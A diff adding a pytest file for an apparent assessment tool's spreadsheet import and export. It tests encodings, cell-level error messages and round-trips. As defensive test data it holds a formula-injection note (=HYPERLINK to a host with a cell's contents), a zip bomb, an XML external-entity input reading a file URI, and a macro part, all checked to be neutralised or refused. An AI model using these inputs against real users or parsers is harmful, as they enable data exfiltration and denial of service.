@@ -1,0 +1,327 @@
+"""Spreadsheets in and out: Nordic files read right or refused with the cell, all or nothing, and back as they were."""
+
+import io
+import zipfile
+from collections.abc import Callable, Iterator
+from datetime import UTC, datetime
+from pathlib import Path
+
+import pytest
+import python_calamine
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from assessor import bank, spreadsheets
+from assessor.assessments import Assessments
+from assessor.core.text import unfit
+from assessor.exchange import BadFile, grids, tables
+from assessor.exchange.grids import NotASheet, QuoteOpen, SheetTooLarge
+from assessor.store import Store
+
+LIBRARY = "Example Library"
+
+
+@pytest.fixture
+def store(tmp_path: Path) -> Iterator[Store]:
+    with Store.open(tmp_path / "kept.db", create=True) as opened:
+        yield opened
+
+
+def taken(store: Store, data: bytes, name: str = "list.csv", library: str = LIBRARY) -> spreadsheets.Plan:
+    planned = spreadsheets.plan(store, library, "dokk1", data, name)
+    spreadsheets.carry_out(store, planned, "dokk1")
+    return planned
+
+
+def problems(store: Store, data: bytes) -> list[str]:
+    with pytest.raises(BadFile) as caught:
+        spreadsheets.plan(store, LIBRARY, "dokk1", data, "list.csv")
+    return str(caught.value).splitlines()[1:]
+
+
+def names(store: Store) -> list[str]:
+    return [each.name for each in store.collaborations(LIBRARY)]
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        "Party;Undertaking\r\nBjörkskolan;Läsning på å\r\n".encode("cp1252"),
+        "Party;Undertaking\r\nBjörkskolan;Läsning på å\r\n".encode(),
+        "Party;Undertaking\r\nBjörkskolan;Läsning på å\r\n".encode("utf-8-sig"),
+        "Party,Undertaking\nBjörkskolan,Läsning på å\n".encode(),
+        "Party\tUndertaking\r\nBjörkskolan\tLäsning på å\r\n".encode("utf-16"),
+        "Our list 2026;\r\n;\r\nParty;Undertaking\r\nBjörkskolan;Läsning på å\r\n".encode("cp1252"),
+    ],
+    ids=["windows", "utf-8", "with a mark", "commas", "excel's unicode text", "with a title above"],
+)
+def test_a_list_is_read_however_a_nordic_excel_wrote_it(store, data):
+    taken(store, data)
+
+    assert names(store) == ["Björkskolan · Läsning på å"]
+
+
+def test_responses_are_understood_in_the_words_of_every_language_and_as_ids(store):
+    languages = bank.languages("dokk1")
+    options = [bank.wording("dokk1", language).items["creation"] for language in languages]
+    heads = "Party;" + options[0].short + ";benefit"
+    rows = [f"P{at};{words.options['joint'].label};dont_know" for at, words in enumerate(options)]
+    taken(store, "\r\n".join([heads, *rows]).encode())
+
+    assert [each.responses for each in store.assessments()] == [
+        {"creation": "joint", "benefit": "dont_know"} for _ in languages
+    ]
+
+
+def test_every_problem_is_told_at_once_with_its_cell_and_nothing_is_taken_in(store):
+    data = (
+        "Party;creation;benefit;wanted;party;Kontakt\r\n"
+        ";joint;x;;;\r\n"
+        "A;joinnt;both;supplier;;\r\n"
+        "B;;;;;;beyond\r\n"
+        f"{'C' * 201};;;;;\r\n"
+    ).encode()
+
+    assert problems(store, data) == [
+        "E1: the heading party stands also in A1; take one of the columns out",
+        "A2: the other party is missing; write its name, or empty the row",
+        "C2: 'x' is no answer here; choose one of: Neither; Only us; Only them; Both; Don't know",
+        "B3: 'joinnt' is no answer here; choose one of: Comes ready-made; Each its own part; Both shape the content; "
+        "Don't know",
+        "D3: 'supplier' is no placement; choose one of: Strategic partnership; Service-based partnership; "
+        "Network cooperation",
+        "G4: there is text in a column without a heading; give it one, or empty the cell",
+        "A5: the text has 201 characters and may have 200; shorten it",
+    ]
+    assert store.libraries() == ()
+
+
+def test_the_same_party_and_undertaking_twice_is_told(store):
+    assert problems(store, b"Party;Undertaking\r\nA;x\r\nB;x\r\nA;x\r\n") == [
+        "A4: the same party and undertaking stand also in row 2; make them one row, or name the undertakings apart"
+    ]
+
+
+def test_a_heading_with_a_slip_in_it_is_told_and_a_strange_one_is_left_unread(store):
+    assert problems(store, b"Party;creatoin\r\nA;joint\r\n") == [
+        "B1: the heading creatoin is not known; the nearest is creation, so mend it or call the column something else"
+    ]
+    assert taken(store, b"Party;Telephone\r\nA;040\r\n").unread == ("Telephone",)
+
+
+def test_a_file_without_headings_is_refused(store):
+    assert problems(store, b"Anna;040\r\n")[0].startswith("A1: no row of headings was found")
+
+
+def test_the_same_file_twice_adds_nothing_and_a_new_response_is_a_new_assessment(store):
+    first = b"Party;creation;note\r\nA;joint;Good\r\nB;;\r\n"
+
+    assert (taken(store, first).count, taken(store, first).count) == (3, 0)
+    assert taken(store, b"Party;creation\r\nA;ready\r\n").count == 1
+    assert [each.responses for each in store.assessments()] == [{"creation": "joint"}, {"creation": "ready"}]
+
+
+def test_an_unclosed_quotation_mark_is_told_with_its_row():
+    with pytest.raises(QuoteOpen, match="opened in row 2"):
+        grids.grids(b'Party;x\r\n"A;b\r\nC;d\r\nE;f\r\n', "list.csv")
+
+
+def some(store: Store) -> Assessments:
+    at = Assessments(store, LIBRARY, "dokk1")
+    case = next(case for case in bank.cases("dokk1") if case.placements == ("network",))
+    opened = at.begin(at.add("Example Club", "Chess"))
+    for item, option in case.responses.items():
+        opened = at.give(opened, item, option, key=item)
+    at.note(opened, "creation", '=HYPERLINK("http://127.0.0.1:9/?"&A1)\r\n  two', "n1")
+    at.note(opened, "", "_x0041_ 007 1e5", "n2")
+    at.add("'t Hooft", "")
+    return at
+
+
+@pytest.mark.parametrize("form", ["csv", "xlsx"])
+def test_an_answer_changed_in_the_sheet_is_changed_here_and_nothing_else(store, form):
+    some(store)
+    before = store.assessments()[0]
+    data = spreadsheets.exported(store, LIBRARY, "dokk1", "en", form)
+    assert taken(store, data, f"list.{form}").count == 0
+    if form == "csv":
+        given = before.responses["creation"]
+        other = next(option for option in ("joint", "ready") if option != given)
+        planned = taken(store, data.replace(f";{given};".encode(), f";{other};".encode(), 1))
+        assert [(change.item, change.value) for change in planned.changes] == [("creation", other)]
+        assert store.assessments()[0].responses == {**before.responses, "creation": other}
+
+
+def test_an_id_that_is_another_librarys_is_not_written_to(store):
+    some(store)
+    data = spreadsheets.exported(store, LIBRARY, "dokk1", "en", "csv")
+    digest = store.content_hash()
+
+    with pytest.raises(spreadsheets.AnsweredOtherwise, match="its id belongs to Example Club · Chess here"):
+        spreadsheets.plan(store, "Another Library", "dokk1", data, "list.csv")
+    assert store.content_hash() == digest
+
+
+def cells_of(data: bytes) -> list[list[list[object]]]:
+    workbook = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(data))
+    return [workbook.get_sheet_by_name(name).to_python(skip_empty_area=False) for name in workbook.sheet_names]
+
+
+def fit(text: str) -> bool:
+    return not unfit(text)
+
+
+TEXT = st.one_of(
+    st.text(min_size=1, max_size=30).filter(fit),
+    st.sampled_from(
+        [
+            "=1+1",
+            "+1",
+            "-3",
+            "@SUM(1)",
+            "\t=1",
+            "\r=1",
+            "＝1+1",
+            "'t Hooft",
+            "''",
+            "007",
+            "1e5",
+            "_x0041_",
+            " led ",
+            "a\r\nb",
+            "👩🏽‍🦽",
+            "עברית",
+            "TRUE",
+            "2024-02-30",
+            '½;"x"',
+        ]
+    ),
+)
+NAME = TEXT.filter(lambda text: text.strip() and not any(char in text for char in "\r\n\t\v\f\x85\u2028\u2029"))
+
+
+@st.composite
+def libraries(draw: st.DrawFn) -> list[tuple[str, str, dict[str, str], dict[str, str]]]:
+    instrument = bank.load("dokk1")
+    responses = st.fixed_dictionaries(
+        {}, optional={item.id: st.sampled_from((*item.options, "dont_know")) for item in instrument.items}
+    )
+    notes = st.dictionaries(st.sampled_from(("", *instrument.by_id)), TEXT, max_size=3)
+    return draw(st.lists(st.tuples(NAME, st.one_of(st.just(""), NAME), responses, notes), min_size=1, max_size=4))
+
+
+def filled(path: Path, drawn) -> Store:
+    store = Store.open(path, create=True)
+    at = Assessments(store, LIBRARY, "dokk1")
+    for number, (party, undertaking, responses, notes) in enumerate(drawn):
+        opened = at.begin(at.add(party, undertaking))
+        for item, option in responses.items():
+            store.record(opened.assessment.id, "response", item, option, key=f"{number}{item}")
+        for item, text in notes.items():
+            store.record(opened.assessment.id, "note", item, text, key=f"{number}n{item}")
+    return store
+
+
+def there_and_back(folder: Path, drawn) -> None:
+    with filled(folder / "one.db", drawn) as one, Store.open(folder / "two.db", create=True) as two:
+        out = {form: spreadsheets.exported(one, LIBRARY, "dokk1", "sv", form) for form in ("csv", "xlsx")}
+        for form, data in out.items():
+            two.erase_library(LIBRARY)
+            taken(two, data, f"list.{form}")
+            again = {each: spreadsheets.exported(two, LIBRARY, "dokk1", "sv", each) for each in out}
+            assert again["csv"] == out["csv"]
+            assert cells_of(again["xlsx"]) == cells_of(out["xlsx"])
+
+
+@settings(max_examples=12, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
+@given(libraries())
+def test_what_was_exported_comes_back_as_it_was(tmp_path_factory, drawn):
+    there_and_back(tmp_path_factory.mktemp("back"), drawn)
+
+
+@pytest.mark.campaign
+@settings(max_examples=300, deadline=None, suppress_health_check=list(HealthCheck))
+@given(libraries())
+def test_a_thousand_assessments_come_back_as_they_were(tmp_path_factory, drawn):
+    there_and_back(tmp_path_factory.mktemp("back"), drawn)
+
+
+@given(TEXT)
+def test_a_marked_text_begins_no_formula_and_is_had_back(text):
+    assert not tables.marked(text).startswith(tables.FORMULAS)
+    assert tables.unmarked(tables.marked(text)) == text
+
+
+def test_nothing_in_an_exported_workbook_is_a_formula_or_a_link(store):
+    some(store)
+    packed = zipfile.ZipFile(io.BytesIO(spreadsheets.exported(store, LIBRARY, "dokk1", "en", "xlsx")))
+    everything = b"".join(packed.read(name) for name in packed.namelist() if "sheet" in name)
+
+    assert b"<f>" not in everything
+    assert b"hyperlink" not in everything.lower().replace(b"=hyperlink(", b"")
+
+
+@pytest.mark.parametrize("language", bank.languages("dokk1"))
+def test_a_template_takes_back_what_its_drop_downs_offer(store, language):
+    data = spreadsheets.template("dokk1", language)
+    (sheet, options) = cells_of(data)
+    chosen = {head: column[0] for head, column in zip(sheet[0], zip(*options, strict=False), strict=False) if column[0]}
+    heads = list(chosen)
+    row = ";".join(["Party", *map(quoted, heads)]) + "\r\n" + ";".join(["A", *map(quoted, chosen.values())])
+    taken(store, row.encode())
+    instrument = bank.load("dokk1")
+
+    assert store.assessments()[0].responses == {item.id: item.options[0] for item in instrument.items}
+
+
+def quoted(text: object) -> str:
+    return '"' + str(text).replace('"', '""') + '"'
+
+
+def zipped(**parts: bytes) -> bytes:
+    written = io.BytesIO()
+    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as packed:
+        for name, data in parts.items():
+            packed.writestr(name.replace("__", "/") + ".xml", data)
+    return written.getvalue()
+
+
+def one_sheet(inside: bytes) -> bytes:
+    return zipped(xl__worksheets__sheet1=b'<worksheet xmlns="x"><sheetData>%s</sheetData></worksheet>' % inside)
+
+
+HOSTILE: dict[str, tuple[Callable[[], bytes], type[Exception], str]] = {
+    "bomb": (lambda: zipped(xl__worksheets__sheet1=b"<a>" + b"x" * 50_000_000), SheetTooLarge, "sheet1.xml"),
+    "far corner": (lambda: one_sheet(b'<row r="1048576"><c r="XFD1048576"/></row>'), SheetTooLarge, "XFD1048576"),
+    "wide": (lambda: one_sheet(b"<row>" + b"<c/>" * 500 + b"</row>"), SheetTooLarge, "OK1"),
+    "long": (lambda: one_sheet(b"<row><c/></row>" * 20_001), SheetTooLarge, "A20001"),
+    "entity": (lambda: zipped(a=b'<!DOCTYPE a [<!ENTITY e SYSTEM "file:///x">]><a>&e;</a>'), NotASheet, "definitions"),
+    "macro": (lambda: zipped(xl__vbaProject=b"<a/>"), NotASheet, "macros"),
+    "parts": (lambda: zipped(**{f"p{n}": b"" for n in range(2001)}), SheetTooLarge, "2001 parts"),
+    "cut": (lambda: zipped(xl__workbook=b"<a/>")[:60], NotASheet, "damaged"),
+    "empty": (lambda: zipped(xl__workbook=b"<a/>"), NotASheet, "damaged"),
+    "old": (lambda: b"\xd0\xcf\x11\xe0" + b"\0" * 600, NotASheet, "password"),
+    "nul": (lambda: b"Party\0;x", NotASheet, "bytes that no text has"),
+    "bytes": (lambda: b"Party;x\r\n\x81\x8d;y", NotASheet, "neither UTF-8"),
+    "big": (lambda: b"x" * 10_000_001, SheetTooLarge, "10 MB"),
+    "rows": (lambda: b"Party\r\n" + b"a\r\n" * 20_000, SheetTooLarge, "A20001"),
+}
+
+
+@pytest.mark.parametrize(("data", "error", "told"), HOSTILE.values(), ids=HOSTILE)
+def test_a_hostile_file_is_refused_before_it_is_built_up(data: Callable[[], bytes], error, told):
+    with pytest.raises(error, match=told):
+        grids.grids(data(), "list.xlsx")
+
+
+def test_a_moment_comes_back_to_the_microsecond(store):
+    some(store)
+    before = store.assessments()[0]
+    data = spreadsheets.exported(store, LIBRARY, "dokk1", "en", "csv")
+    store.erase_library(LIBRARY)
+    taken(store, data)
+    after = store.assessments()[0]
+
+    assert (after.id, after.started, after.changed) == (before.id, before.started, before.changed)
+    assert after.started.tzinfo == UTC
+    assert isinstance(after.started, datetime)
